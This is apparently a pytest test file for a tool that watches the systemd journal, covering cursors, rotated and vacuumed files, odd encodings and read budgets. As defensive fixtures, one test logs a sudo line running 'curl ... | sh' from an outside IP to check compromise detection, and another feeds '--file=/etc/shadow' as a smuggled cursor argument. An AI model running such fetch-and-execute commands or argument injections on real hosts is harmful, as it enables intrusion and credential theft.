"""The witness of the systemd journal, before real journal files and the real journalctl."""

from __future__ import annotations

import asyncio
import json
import os
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest

from outlive.clock import SystemClock
from outlive.logs import journal_place
from outlive.model.journal import Journal
from outlive.model.observation import Observation
from outlive.transport.inside import InsideHere
from outlive.witnesses.journal import BUDGET_BYTES, JournalWitness
from tests.witnesses.hearing import overheard
from tests.world.journal import BOOT, JournalFolder, Line, writer
from tests.world.need import need

CLOCK = SystemClock()
pytestmark = pytest.mark.slow


class Host:
    """A journal, the witness, and every line that it heard. Each line that is written is a millisecond later."""

    def __init__(self, place: Path, monkeypatch: pytest.MonkeyPatch) -> None:
        self.journal = JournalFolder.make(place)
        monkeypatch.setenv("PATH", f"{self.journal.programs}:{os.environ['PATH']}")
        self.at = CLOCK.now() - timedelta(minutes=1)
        self.which = [Journal()]
        self.remembered: dict[str, Any] = {}
        self.restart()
        self.heard = overheard(monkeypatch)

    def restart(self) -> None:
        """A new keeper, that knows what the one before had remembered."""
        self.witness = JournalWitness("web-1", InsideHere(), CLOCK, self.which, b"k" * 32, remembered=self.remembered)

    def write(self, *texts: str | bytes, file: str = "system", **named: Any) -> None:
        lines = []
        for one in texts:
            self.at += timedelta(milliseconds=1)
            lines.append(Line(self.at, (one.encode() if isinstance(one, str) else one,), **named))
        self.journal.write(*lines, file=file)

    def look(self, times: int = 1) -> list[Observation]:
        seen = [one for _ in range(times) for one in asyncio.run(self.witness.look())]
        self.remembered = json.loads(json.dumps(self.witness.positions()))
        return seen


@pytest.fixture
def host(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Host:
    need("journal", writer)
    return Host(tmp_path, monkeypatch)


@pytest.mark.parametrize("restarts", [False, True])
def test_it_begins_now_and_then_every_line_once(host: Host, restarts: bool) -> None:
    """Over boots, rotated files, and what is not asked for."""
    host.write(*[f"years ago {number}" for number in range(50)])
    seen = host.look(2)
    assert {one.fact for one in seen} == {"log.seen"} and not [one for one in seen if one.error]
    assert abs(seen[0].at - host.at) < timedelta(seconds=3) and host.heard == []
    host.write("one")
    host.write("not asked for", facility=3, identifier="shop")
    host.write("two", identifier="sshd-session")
    host.look()
    if restarts:
        host.restart()
    host.journal.folder.joinpath("system.journal").rename(host.journal.folder / "system@a.journal")
    host.write("three", boot="2" * 32)
    host.write("out of memory", identifier="kernel", facility=0, pid=0, boot="2" * 32)
    assert not [one for one in host.look(2) if one.error]
    lines = [b"sshd[812]: one", b"sshd-session[812]: two", b"sshd[812]: three", b"kernel[0]: out of memory"]
    assert host.heard == lines


def test_nothing_was_there_at_first(host: Host) -> None:
    host.write("not asked for", facility=3)
    assert host.look() == [] and "since" in str(host.remembered)
    host.restart()
    host.at = CLOCK.now() + timedelta(seconds=1)
    host.write("the first")
    assert not [one for one in host.look(2) if one.error]
    assert host.heard == [b"sshd[812]: the first"] and "cursor" in str(host.remembered)


def test_what_was_vacuumed_is_no_data_and_what_came_after_it_is_heard(host: Host) -> None:
    host.write("begin")
    host.look()
    host.write("never read")
    host.journal.folder.joinpath("system.journal").unlink()
    host.write("after")
    (lost,) = [one for one in host.look() if one.error]
    assert lost.error == "behind" and "lines were lost" in lost.value["why"]
    host.write("more")
    assert not [one for one in host.look() if one.error]
    assert host.heard == [b"sshd[812]: after", b"sshd[812]: more"]


def test_a_journal_that_begins_anew_before_its_time_is_not_waited_for_in_vain(host: Host) -> None:
    """The clock was set back, and the journal emptied: such a cursor finds nothing for ever (systemd issue 6213)."""
    host.write("begin")
    host.look()
    host.journal.folder.joinpath("system.journal").unlink()
    host.at -= timedelta(hours=5)
    host.write("earlier", boot="2" * 32)
    assert [one.error for one in host.look()] == ["behind"]
    host.look()
    host.write("goes on", boot="2" * 32)
    assert not [one for one in host.look() if one.error]
    assert host.heard == [b"sshd[812]: goes on"]


def test_texts_of_every_kind(host: Host) -> None:
    host.write("begin")
    host.look()
    host.write(b"not UTF-8: \xff\xfe", "two\nlines", "x" * 5000, "\x1b[31mred", "caf\xc3\xa9")
    host.at += timedelta(milliseconds=1)
    host.journal.write(Line(host.at, (b"twice", b"given", b"\xff")))
    host.look()
    assert host.heard == [
        b"sshd[812]: not UTF-8: \xff\xfe",
        b"sshd[812]: two",
        b"lines",
        b"sshd[812]: " + b"x" * 5000,
        b"sshd[812]: \x1b[31mred",
        "sshd[812]: caf\xc3\xa9".encode(),
        b"sshd[812]: twice",
        b"given",
        b"\xff",
    ]


def test_much_is_read_in_several_looks_and_too_much_is_given_up(host: Host, monkeypatch: pytest.MonkeyPatch) -> None:
    host.write("begin")
    host.look()
    texts = [f"{number:04} " + "x" * 900 for number in range(1200)]
    host.write(*texts)
    host.look()
    assert 0 < len(host.heard) < 1200
    assert not [one for one in host.look(3) if one.error]
    assert host.heard == [f"sshd[812]: {one}".encode() for one in texts]
    monkeypatch.setattr(journal_place, "MOST_BEHIND", 1)
    host.write(*texts)
    assert [one.error for one in host.look() if one.error] == ["behind"]
    host.look()
    host.write("after")
    host.look()
    assert len(host.heard) < 2400 and host.heard[-1] == b"sshd[812]: after"


def test_one_entry_longer_than_a_look_stops_nothing(host: Host) -> None:
    host.write("begin")
    host.look()
    host.write("x" * (BUDGET_BYTES + 1000), "after")
    seen = host.look(3)
    assert [one.value["why"] for one in seen if one.error] == ["lines were lost: entries were too long to be read"]
    assert host.heard == [b"sshd[812]: after"]


def test_a_sign_of_compromise_and_a_flood_of_failed_logins_are_told(host: Host) -> None:
    host.write("begin")
    host.look()
    by_sudo = "   deploy : TTY=pts/0 ; PWD=/srv ; USER=root ; COMMAND=/bin/sh -c curl -s http://192.0.2.7/x.sh | sh"
    host.write(by_sudo, identifier="sudo", facility=10)
    (leak,) = [one for one in host.look(2) if one.fact == "log.leak"]
    assert leak.value["rule"] == "shell-child" and leak.value["service"] == "journal"
    assert "192.0.2.7" not in json.dumps(leak.value) + json.dumps(host.remembered)
    host.restart()
    assert "log.leak" not in {one.fact for one in host.look(2)}, "it was told before the restart"
    host.at = CLOCK.now()
    host.write(*["Failed password for root from 192.0.2.9 port 40022 ssh2"] * 9000)
    assert "log.flood" in {one.fact for one in host.look(8)}


def test_units_identifiers_and_priority(host: Host) -> None:
    host.which[:] = [
        Journal(units=("nginx.service",), service="nginx"),
        Journal(identifiers=("sudo", "su"), priority="warning", service="sudo"),
    ]
    host.restart()
    host.write("begin", identifier="nginx")
    host.look()
    host.at = CLOCK.now() + timedelta(seconds=1)
    host.write("a page", identifier="nginx", facility=3)
    host.write("nothing", "to see", identifier="sudo", facility=10)
    host.write("3 incorrect password attempts", identifier="sudo", facility=10, priority=1)
    seen = host.look(2)
    assert {one.value["service"] for one in seen if one.fact == "log.seen"} == {"nginx", "sudo"}
    assert sorted(host.heard) == [b"nginx[812]: a page", b"sudo[812]: 3 incorrect password attempts"]
    assert len(host.remembered) == 2


def test_a_host_without_a_journal_is_no_data(host: Host, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (one,) = host.look()
    assert one.error == "not_there" and "keeps no journal" in one.value["why"] and not host.remembered
    bare = tmp_path / "bare"
    bare.mkdir()
    for name in ("sh", "printf"):
        (bare / name).symlink_to(f"/usr/bin/{name}")
    monkeypatch.setenv("PATH", str(bare))
    (one,) = host.look()
    assert one.error == "not_there" and "no journalctl" in one.value["why"]


@pytest.mark.parametrize("document", [{}, {"cursor": "s=1"}, {"cursor": "--file=/etc/shadow"}, {"since": -1}, []])
def test_a_position_that_cannot_be_read_is_none(host: Host, document: Any) -> None:
    host.write("before")
    host.look()
    host.remembered = dict.fromkeys(host.remembered, document)
    host.restart()
    assert not [one for one in host.look() if one.error]
    host.write("after")
    host.look()
    assert host.heard == [b"sshd[812]: after"]


def test_what_is_remembered_is_a_cursor_and_no_text(host: Host) -> None:
    host.write("hunter2")
    host.look()
    (told,) = host.remembered.values()
    assert set(told) == {"cursor"} and BOOT in told["cursor"]
